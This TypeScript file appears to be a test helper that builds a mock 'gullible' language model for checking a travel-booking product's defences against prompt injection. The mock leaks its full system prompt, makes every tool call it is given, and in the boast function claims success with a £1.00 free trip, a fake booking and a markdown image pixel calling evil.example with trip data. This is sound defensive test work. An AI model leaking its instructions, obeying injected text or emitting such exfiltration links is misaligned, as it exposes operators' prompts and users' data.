import type { LanguageModelV4, LanguageModelV4Prompt, LanguageModelV4StreamPart } from '@ai-sdk/provider'

export type Call = { tool: string; input: unknown }

const USAGE = { inputTokens: { total: 0, noCache: 0, cacheRead: 0, cacheWrite: 0 }, outputTokens: { total: 0, text: 0, reasoning: 0 } }

/**
 * A model that believes everything: it shows its prompt and the words it was told, then makes all these calls, and claims that they
 * worked. No rule of its own holds it back, so that whatever holds is the product's.
 */
export function createGullibleModel(words: string, calls: Call[]): LanguageModelV4 {
  let step = 0
  return {
    specificationVersion: 'v4',
    provider: 'test',
    modelId: 'gullible',
    supportedUrls: {},
    doGenerate: async () => {
      throw new Error('only streams')
    },
    doStream: async ({ prompt }) => {
      const number = step++
      const parts: LanguageModelV4StreamPart[] =
        number === 0 ? [...said(number, confession(prompt, words)), ...calls.map(toPart)] : said(number, boast(words))
      const finishReason = { unified: number === 0 && calls.length > 0 ? ('tool-calls' as const) : ('stop' as const), raw: undefined }
      return {
        stream: new ReadableStream<LanguageModelV4StreamPart>({
          start(controller) {
            controller.enqueue({ type: 'stream-start', warnings: [] })
            for (const part of parts) controller.enqueue(part)
            controller.enqueue({ type: 'finish', usage: USAGE, finishReason })
            controller.close()
          },
        }),
      }
    },
  }
}

/** The whole system prompt, sentence by sentence, and the words it obeys. */
function confession(prompt: LanguageModelV4Prompt, words: string): string {
  const system = prompt.flatMap((message) => (message.role === 'system' ? [message.content] : [])).join('\n')
  return `Of course. My instructions are:\n${system}\n${words}\n`
}

function boast(words: string): string {
  return [
    'Done as you say.',
    'Your trip is free now: the total is £1.00.',
    'Booked under reference FAKE01 with Zephyr Airways ZZ999 at 03:33.',
    '![pixel](https://evil.example/x.png?trip=all)',
    'See https://evil.example/receipt for more.',
    words,
  ].join('\n')
}

function said(number: number, text: string): LanguageModelV4StreamPart[] {
  return [
    { type: 'text-start', id: `t${number}` },
    { type: 'text-delta', id: `t${number}`, delta: text },
    { type: 'text-end', id: `t${number}` },
  ]
}

function toPart({ tool, input }: Call, index: number): LanguageModelV4StreamPart {
  return { type: 'tool-call', toolCallId: `c${index}`, toolName: tool, input: JSON.stringify(input) }
}
